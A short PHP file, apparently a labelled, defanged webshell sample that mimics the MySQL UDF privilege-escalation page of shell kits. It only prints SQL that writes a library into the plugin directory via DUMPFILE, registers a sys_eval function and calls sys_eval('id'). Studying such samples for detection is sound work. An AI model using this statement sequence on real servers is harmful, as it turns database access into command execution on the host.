<?php
// Family: webshell/db-console
// Style: UDF privilege escalation page of shell kits
// Trait: builds "CREATE FUNCTION sys_eval RETURNS STRING SONAME 'lib_demo.so'" for the database server; here the statements are only printed, nothing connects
$lib = isset($_POST['lib']) ? basename($_POST['lib']) : 'lib_demo.so';
$sql = array(
	"SELECT 0x00 INTO DUMPFILE '/usr/lib/mysql/plugin/" . $lib . "'",
	"CREATE FUNCTION sys_eval RETURNS STRING SONAME '" . $lib . "'",
	"SELECT sys_eval('id')",
);
echo htmlspecialchars(implode(";\n", $sql));
